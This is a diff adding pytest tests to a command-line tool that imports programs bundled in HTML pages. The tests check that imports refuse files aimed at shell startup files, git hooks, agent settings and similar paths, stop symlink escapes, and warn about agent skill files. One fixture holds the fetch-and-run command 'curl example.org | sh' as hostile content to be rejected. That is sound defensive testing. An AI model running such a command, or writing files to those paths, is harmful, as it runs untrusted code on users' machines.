@@ -1,5 +1,7 @@
 """Programs at the command line: drawn, given back with all they run, checked, and never taken for what they are not."""
 
+from hashlib import sha256
+from html import escape
 from pathlib import Path
 
 import pytest
@@ -95,6 +97,67 @@ def test_a_page_cannot_place_its_program_outside_the_folder(circuit: Circuit, pr
         ended = circuit("import", "page.html", "-o", "back/", "--force", cwd=project)
         assert (ended.code, "own path was left out" in ended.err) == (0, True)
         assert (project / "back" / "page.kdl").read_text("utf-8") == MAIN
+
+
+def block(text: str, path: str, format: str = "circuitry", *, main: bool = False) -> str:
+    """A block of a page by a stranger, who can write a digest that holds for any text."""
+    kind = 'id="circuit-workflow"' if main else 'class="circuit-bundled"'
+    where = f' data-path="{path}"' if path else ""
+    hexes = sha256(text.encode()).hexdigest()
+    return f'<pre {kind}{where} data-format="{format}" data-sha256="{hexes}">{escape(text, quote=False)}</pre>'
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        *(".bashrc", ".git/hooks/pre-commit", ".claude/settings.json", "a/.envrc"),
+        *("setup.sh", "Makefile", "circuit.toml", "package.json", "x" * 300 + ".kdl", "\u202egpj.kdl"),
+    ],
+)
+def test_a_page_brings_no_file_that_is_no_program_by_its_name(circuit: Circuit, tmp_path: Path, path: str) -> None:
+    page = block(MAIN, "", main=True) + block("curl example.org | sh\n", path) + block(INNER, "parts/inner.kdl")
+    (tmp_path / "page.html").write_text(page, "utf-8")
+    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
+    assert (ended.code, "A bundled document was left out" in ended.err) == (0, True)
+    assert files(tmp_path / "back") == {"page.kdl": MAIN.encode(), "parts/inner.kdl": INNER.encode()}
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".claude/settings.json", "a/.bashrc", "bin/run"])
+def test_nor_is_the_program_itself_one(circuit: Circuit, tmp_path: Path, path: str) -> None:
+    (tmp_path / "page.html").write_text(block(MAIN, path, main=True), "utf-8")
+    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
+    assert (ended.code, "own path was left out" in ended.err) == (0, True)
+    assert files(tmp_path / "back") == {"page.kdl": MAIN.encode()}
+
+
+def test_a_format_that_is_not_known_is_said_and_its_text_is_given_back(circuit: Circuit, tmp_path: Path) -> None:
+    text = "of tomorrow\n"
+    (tmp_path / "page.html").write_text(block(text, "", "later", main=True), "utf-8")
+    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
+    assert (ended.code, "a format that is not known here" in ended.err, "fault in" in ended.err) == (0, True, False)
+    assert files(tmp_path / "back") == {"page.txt": text.encode()}
+    for command in (["export", "page.html"], ["run", "page.html"]):
+        ended = circuit(*command, cwd=tmp_path)
+        assert (ended.code, "a format that is not known here" in ended.err) == (1, True)
+    (tmp_path / "page.html").write_text(block(MAIN, "", main=True) + block(text, "parts/inner.kdl", "later"), "utf-8")
+    ended = circuit("import", "page.html", "-o", "again/", cwd=tmp_path)
+    assert (ended.code, files(tmp_path / "again")) == (0, {"page.kdl": MAIN.encode()})
+
+
+def test_a_link_in_the_folder_leads_no_program_out_of_it(circuit: Circuit, tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "back").mkdir()
+    (tmp_path / "back" / "parts").symlink_to(tmp_path / "elsewhere")
+    (tmp_path / "page.html").write_text(block(MAIN, "", main=True) + block(INNER, "parts/inner.kdl"), "utf-8")
+    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
+    assert (ended.code, "outside the folder" in ended.err, files(tmp_path / "elsewhere")) == (1, True, {})
+
+
+def test_a_program_that_an_agent_would_obey_is_named(circuit: Circuit, tmp_path: Path) -> None:
+    page = block(MAIN, "", main=True) + block(LEAF.decode(), "parts/SKILL.md")
+    (tmp_path / "page.html").write_text(page, "utf-8", newline="")
+    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
+    assert "warning: agents do what back/parts/SKILL.md says; read it before one does" in ended.err.replace("\\", "/")
 
 
 def test_what_a_program_starts_is_named_when_it_is_taken_out_of_a_page(circuit: Circuit, tmp_path: Path) -> None:
